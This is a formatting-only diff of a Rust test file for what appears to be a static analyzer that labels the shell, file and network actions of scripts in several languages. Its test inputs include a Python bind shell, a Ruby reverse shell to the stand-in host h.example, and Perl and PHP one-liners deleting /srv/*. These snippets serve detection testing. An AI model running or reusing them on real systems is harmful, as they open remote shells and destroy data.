@@ -8,10 +8,7 @@ fn functions_are_followed_to_their_calls() {
     check(
         Lang::Python,
         &[
-            (
-                "(lambda f: f('id'))(__import__('os').system)",
-                &["shell id"],
-            ),
+            ("(lambda f: f('id'))(__import__('os').system)", &["shell id"]),
             (
                 "import socket,os,threading\ndef h(c):\n  while True:\n    d=c.recv(99)\n    os.popen(d.decode())\ns=socket.socket();s.bind(('',99))\nwhile True:\n  c,a=s.accept()\n  threading.Thread(target=h,args=(c,)).start()",
                 &["listen  99", "received"],
@@ -40,10 +37,7 @@ fn functions_are_followed_to_their_calls() {
     check(
         Lang::Lua,
         &[
-            (
-                "local function r(c) os.execute(c) end r('id')",
-                &["shell id"],
-            ),
+            ("local function r(c) os.execute(c) end r('id')", &["shell id"]),
             (
                 "function f(x) if x then os.execute(x) end for i=1,2 do print(i) end end f('id') os.execute('who')",
                 &["shell id", "shell who"],
@@ -75,21 +69,12 @@ fn functions_are_followed_to_their_calls() {
     check(
         Lang::Php,
         &[
-            (
-                "(new ReflectionFunction('system'))->invoke('id');",
-                &["shell id"],
-            ),
-            (
-                "$x = function($c) { return `$c`; }; $x('id');",
-                &["shell id"],
-            ),
+            ("(new ReflectionFunction('system'))->invoke('id');", &["shell id"]),
+            ("$x = function($c) { return `$c`; }; $x('id');", &["shell id"]),
             ("assert($x > 0);", &[]),
         ],
     );
-    check(
-        Lang::Perl,
-        &[("my $c = sub { system @_ }; $c->('id')", &["shell id"])],
-    );
+    check(Lang::Perl, &[("my $c = sub { system @_ }; $c->('id')", &["shell id"])]);
 }
 
 #[test]
@@ -110,22 +95,13 @@ fn listings_carry_their_pattern() {
     check(
         Lang::Perl,
         &[
-            (
-                "map { unlink } glob('/srv/*')",
-                &["list /srv/*", "delete /srv/*"],
-            ),
-            (
-                "@ARGV=('/etc/hosts'); while(<>){print}",
-                &["read /etc/hosts"],
-            ),
+            ("map { unlink } glob('/srv/*')", &["list /srv/*", "delete /srv/*"]),
+            ("@ARGV=('/etc/hosts'); while(<>){print}", &["read /etc/hosts"]),
         ],
     );
     check(
         Lang::Php,
-        &[(
-            "array_map('unlink', glob('/srv/*'));",
-            &["list /srv/*", "delete /srv/*"],
-        )],
+        &[("array_map('unlink', glob('/srv/*'));", &["list /srv/*", "delete /srv/*"])],
     );
     check(
         Lang::Node,
@@ -166,11 +142,7 @@ fn content_keeps_its_origin() {
         Lang::Ruby,
         &[(
             "f=TCPSocket.open('h.example',99).to_i;exec sprintf('/bin/sh -i <&%d >&%d',f,f)",
-            &[
-                "connect h.example 99",
-                "attach",
-                "shell /bin/sh -i <&‹received› >&‹received›",
-            ],
+            &["connect h.example 99", "attach", "shell /bin/sh -i <&‹received› >&‹received›"],
         )],
     );
 }
